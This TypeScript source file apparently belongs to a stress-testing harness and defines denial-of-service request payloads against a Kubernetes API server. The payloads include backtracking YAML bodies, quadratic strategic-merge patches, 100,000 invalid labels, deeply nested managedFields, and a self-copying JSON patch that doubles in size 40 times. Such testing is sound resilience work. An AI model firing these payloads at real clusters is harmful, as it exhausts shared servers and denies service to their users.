import {
  type Attack,
  type AttackContext,
  type HttpRequest,
  namespaces,
  openAgent,
  repeat,
  serviceAccountsPath,
} from './attack.ts';

/** Two connections keep one event loop busy. */
const connections = 2;
const requestsMax = 2_000;
const object = serviceAccountsPath(namespaces.attack, 'patched');
const collection = serviceAccountsPath(namespaces.attack);

const send =
  (make: (context: AttackContext) => Promise<(number: number) => HttpRequest>): Attack['prepare'] =>
  async (context) => {
    const next = await make(context);
    return () => repeat(context, connections, requestsMax, next);
  };

/** Body sizes, sent in turn. The largest exceeds what a server should accept as YAML. */
const yamlSizes = [8, 32, 128, 500].map((kib) => kib * 1_024);

const yaml = (name: string, token: string, close = ''): Attack => ({
  name: `yaml-${name}`,
  reason: `YAML bodies of ${JSON.stringify(token)} repeated: parsers backtrack, or keep every token`,
  prepare: send(async () => {
    const bodies = yamlSizes.map((bytes) => {
      const times = Math.floor(bytes / (token.length + close.length));
      return Buffer.from(token.repeat(times) + close.repeat(times));
    });
    return (number) => ({
      method: 'POST',
      path: '/apis/authentication.k8s.io/v1/selfsubjectreviews',
      contentType: 'application/yaml',
      body: bodies[number % bodies.length] as Buffer,
    });
  }),
});

const serviceAccount = (more: object, metadata: object = {}): string =>
  JSON.stringify({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { ...metadata }, ...more });

const numbered = <T>(count: number, make: (at: number) => T): T[] => Array.from({ length: count }, (_, at) => make(at));
const labels = (count: number, value: string): Record<string, string> =>
  Object.fromEntries(numbered(count, (at) => [`label-${at}`, value]));
const secrets = (count: number): object[] => numbered(count, (at) => ({ name: `secret-${at}` }));

/** Creates the object that patches and updates target. A server may refuse an object of this size. */
async function putObject(context: AttackContext, body: string): Promise<void> {
  const ask = openAgent(context, 1);
  await ask({ method: 'DELETE', path: object });
  const { status } = await ask({ method: 'POST', path: collection, body });
  context.count(`prepared ${status}`);
}

const strategicSecrets = (count: number): Attack => ({
  name: `strategic-secrets-${count}`,
  reason: `strategic merge of ${count} secrets by their names: a merge that compares each with each is quadratic`,
  prepare: send(async (context) => {
    await putObject(context, serviceAccount({ secrets: secrets(count) }, { name: 'patched' }));
    const body = JSON.stringify({ secrets: secrets(count) });
    return () => ({ method: 'PATCH', path: object, contentType: 'application/strategic-merge-patch+json', body });
  }),
});

const create = (name: string, reason: string, make: () => string): Attack => ({
  name,
  reason,
  prepare: send(async () => {
    const body = make();
    return () => ({ method: 'POST', path: collection, body });
  }),
});

const managedFields = (fieldsV1: string): string =>
  `{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"generateName":"deep-","managedFields":[{"manager":"m",` +
  `"operation":"Update","apiVersion":"v1","time":"2026-01-01T00:00:00Z","fieldsType":"FieldsV1","fieldsV1":${fieldsV1}}]}}`;

const nested = (depth: number): string => `${'{"f:a":'.repeat(depth)}{}${'}'.repeat(depth)}`;

/** 2^40 copies: more than a server should ever create. */
const doublings = 40;

export const bodyAttacks: readonly Attack[] = [
  yaml('empty-strings', '"" '),
  yaml('sequence-in-mapping', '- : '),
  yaml('tags-and-anchors', '!!x &a '),
  yaml('tags', '! '),
  yaml('anchors', '&a '),
  yaml('aliases', '*a '),
  yaml('nested-sequences', '[', ']'),
  yaml('nested-mappings', '{a: ', '}'),
  strategicSecrets(10_000),
  strategicSecrets(20_000),
  strategicSecrets(40_000),
  create('bad-labels-100000', '100,000 invalid labels: each would be a cause in the response', () =>
    serviceAccount({}, { generateName: 'labels-', labels: labels(100_000, '!bad!') }),
  ),
  create('bad-finalizers-100000', '100,000 invalid finalizers: each would be a cause in the response', () =>
    serviceAccount({}, { generateName: 'finalizers-', finalizers: numbered(100_000, (at) => `-bad-${at}`) }),
  ),
  create('create-20000-labels', 'objects with 20,000 labels, and as many fields for their manager', () =>
    serviceAccount({}, { generateName: 'labels-', labels: labels(20_000, 'value') }),
  ),
  {
    name: 'update-20000-labels',
    reason: 'updates of an object with 20,000 labels: old and new fields are compared',
    prepare: send(async (context) => {
      await putObject(context, serviceAccount({}, { name: 'patched', labels: labels(20_000, 'value') }));
      return (number) => ({
        method: 'PUT',
        path: object,
        body: serviceAccount({}, { name: 'patched', labels: labels(20_000, `value-${number}`) }),
      });
    }),
  },
  create('managed-fields-100000', 'managedFields with 100,000 fields: a set of fields is built and sorted', () =>
    managedFields(`{${numbered(100_000, (at) => `"f:field-${at}":{}`).join(',')}}`),
  ),
  {
    name: 'deep-fields-v1',
    reason: 'fieldsV1 nested 2,000 to 5,000 levels deep, and YAML lists of what was stored: recursion ends in errors',
    prepare: send(async () => {
      const bodies = [5_000, 3_150, 2_000].map((depth) => managedFields(nested(depth)));
      return (number) =>
        number % 4 === 3
          ? { path: collection, headers: { accept: 'application/yaml' } }
          : { method: 'POST', path: collection, body: bodies[number % 4] as string };
    }),
  },
  {
    name: 'json-patch-doubling',
    reason: `a JSON patch that copies a value into itself ${doublings} times: its size doubles with each operation`,
    prepare: send(async (context) => {
      await putObject(context, serviceAccount({}, { name: 'patched' }));
      const body = JSON.stringify([
        { op: 'add', path: '/metadata/annotations', value: {} },
        { op: 'add', path: '/doubled', value: { a: 'x' } },
        ...numbered(doublings, (at) => ({ op: 'copy', from: '/doubled', path: `/doubled/copy-${at}` })),
      ]);
      return () => ({ method: 'PATCH', path: object, contentType: 'application/json-patch+json', body });
    }),
  },
  {
    name: 'selector-1000-terms',
    reason: 'a label selector of 1,000 terms, the most that are accepted, matched against every object of a list',
    prepare: send(async () => {
      const selector = numbered(1_000, (at) => `!a${at}`).join(',');
      return () => ({ path: `${serviceAccountsPath(namespaces.large)}?labelSelector=${selector}` });
    }),
  },
];
